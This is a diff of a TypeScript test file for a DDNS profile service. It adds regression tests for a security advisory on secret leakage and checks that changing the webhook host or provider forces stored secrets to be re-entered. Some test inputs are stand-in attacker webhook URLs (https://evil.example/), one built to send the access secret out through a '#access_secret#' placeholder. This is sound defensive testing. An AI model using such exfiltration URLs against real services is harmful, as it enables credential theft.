@@ -6,8 +6,8 @@ import { openTemporaryDatabase } from "#platform/database/testing";
 import type { TemporaryDatabase } from "#platform/database/testing";
 import { createRouteCaller } from "#platform/http/testing";
 import type { RouteCaller } from "#platform/http/testing";
-import { createDdns } from "./index.ts";
 import type { Ddns } from "./index.ts";
+import { openRoom } from "./testing/room.ts";
 
 const admin: User = { id: 1, username: "admin", role: ROLE.admin };
 const alice: User = { id: 2, username: "alice", role: ROLE.member };
@@ -37,14 +37,12 @@ const form = (over: object = {}) => ({
 });
 
 async function open(): Promise<void> {
-  room = await createDdns({
-    database: temporary.database,
-    now: clock.now,
+  ({ ddns: room } = await openRoom(temporary.database, clock, {
     requireRoom: (user, rows) => {
       if (user.role !== ROLE.admin && rows >= 2) throw refuse("too many rows: at most %d of one kind", 2);
     },
     cascades: [async (_tx, ids) => void cascaded.push([...ids])],
-  });
+  }));
   call = createRouteCaller(room.routes);
 }
 
@@ -67,13 +65,21 @@ test.each<[string, object, string]>([
   expect(room.profiles.list()).toEqual([]);
 });
 
-test("GHSA-ww5p-j6cj-6mqq: secrets go in and never come out", async () => {
-  await call(session(alice), "POST /ddns", form());
+test("GHSA-ww5p-j6cj-6mqq: secrets go in and never come out, in the address and the body neither", async () => {
+  const secrets = { webhook_url: "https://dns.example.com/?key=the-url", webhook_request_body: '{"k":"the-body"}' };
+  await call(session(alice), "POST /ddns", form(secrets));
+  await call(session(alice), "PATCH /ddns/1", form({ ...secrets, access_secret: "the-other-secret" }));
   const answer = await call(session(alice), "GET /ddns");
   expect(answer).toMatchObject({ data: [{ id: 1, domains: ["a.example.com", "b.example.com"], access_id: "id", enable_ipv6: false }] });
   expect(JSON.stringify(answer)).not.toContain("the-");
+  expect(JSON.stringify(await temporary.database.kysely.selectFrom("wf_audit").selectAll().execute())).not.toContain("the-");
   await open();
-  expect(room.profiles.get(1)).toMatchObject({ accessSecret: "the-secret", webhookHeaders: '{"a":"the-header"}' });
+  expect(room.profiles.get(1)).toMatchObject({
+    accessSecret: "the-other-secret",
+    webhookHeaders: '{"a":"the-header"}',
+    webhookUrl: secrets.webhook_url,
+    webhookRequestBody: secrets.webhook_request_body,
+  });
 });
 
 test("omitted members are zero values and are left out again", async () => {
@@ -99,7 +105,8 @@ test("an edit replaces everything but secrets left empty", async () => {
   await call(session(alice), "POST /ddns", form());
   expect(await call(session(bob), "PATCH /ddns/1", form())).toEqual({ error: "permission denied" });
   expect(await call(session(alice), "PATCH /ddns/9", form())).toEqual({ error: "profile id 9 does not exist" });
-  const edit = form({ name: "edited", access_id: "", access_secret: "", webhook_headers: undefined, domains: ["", "c.test"] });
+  const kept = { access_secret: "", webhook_headers: undefined, webhook_url: "", webhook_request_body: "" };
+  const edit = form({ ...kept, name: "edited", access_id: "", domains: ["", "c.test"] });
   expect(await call(session(admin), "PATCH /ddns/1", edit)).toEqual({ data: null });
   await open();
   expect(room.profiles.get(1)).toMatchObject({
@@ -107,8 +114,62 @@ test("an edit replaces everything but secrets left empty", async () => {
     name: "edited",
     accessId: "",
     accessSecret: "the-secret",
+    webhookUrl: "https://dns.example.com/#domain#",
+    webhookRequestBody: '{"ip":"#ip#"}',
     webhookHeaders: '{"a":"the-header"}',
     domains: ["c.test"],
+  });
+  const lines = await temporary.database.kysely.selectFrom("wf_audit").select(["action", "username"]).orderBy("id").execute();
+  expect(lines).toEqual([
+    { action: "ddns.create", username: "alice" },
+    { action: "ddns.update", username: "admin" },
+  ]);
+});
+
+/** Who may edit a profile must not learn its secrets by sending them elsewhere. */
+test.each<[string, object, string | null]>([
+  ["the same host, another path", { webhook_url: "https://dns.example.com/other?x=1" }, null],
+  ["another host", { webhook_url: "https://evil.example/" }, "webhook_headers: enter it again, because webhook_url names another host"],
+  [
+    "another port",
+    { webhook_url: "https://dns.example.com:444/" },
+    "webhook_headers: enter it again, because webhook_url names another host",
+  ],
+  ["without TLS", { webhook_url: "http://dns.example.com/" }, "webhook_headers: enter it again, because webhook_url names another host"],
+  [
+    "another host, only headers entered",
+    { webhook_url: "https://evil.example/", webhook_headers: "{}" },
+    "webhook_request_body: enter it again, because webhook_url names another host",
+  ],
+  [
+    "another host, no secret entered",
+    { webhook_url: "https://evil.example/", webhook_headers: "{}", webhook_request_body: "x" },
+    "access_secret: enter it again, because webhook_url names another host",
+  ],
+  [
+    "another host, all entered again",
+    { webhook_url: "https://new.example/", webhook_headers: "{}", webhook_request_body: "x", access_secret: "s" },
+    null,
+  ],
+  ["another provider", { provider: "cloudflare" }, "access_secret: enter it again, because provider names another service"],
+  ["another provider with its secret", { provider: "cloudflare", access_secret: "token" }, null],
+  ["the one that sends nothing", { provider: "dummy" }, null],
+])("secrets stay where they were meant for: %s", async (_label, over, error) => {
+  await call(session(alice), "POST /ddns", form());
+  const kept = { access_secret: "", webhook_headers: "", webhook_url: "", webhook_request_body: "" };
+  expect(await call(session(alice), "PATCH /ddns/1", form({ ...kept, ...over }))).toEqual(error === null ? { data: null } : { error });
+});
+
+test("nor by way of a provider that sends nothing", async () => {
+  await call(
+    session(alice),
+    "POST /ddns",
+    form({ provider: "cloudflare", webhook_url: "", webhook_headers: "", webhook_request_body: "" }),
+  );
+  const kept = { access_secret: "", webhook_headers: "", webhook_request_body: "" };
+  await call(session(alice), "PATCH /ddns/1", form({ ...kept, provider: "dummy", webhook_url: "https://evil.example/?s=#access_secret#" }));
+  expect(await call(session(alice), "PATCH /ddns/1", form({ ...kept, webhook_url: "" }))).toEqual({
+    error: "access_secret: enter it again, because provider names another service",
   });
 });
 
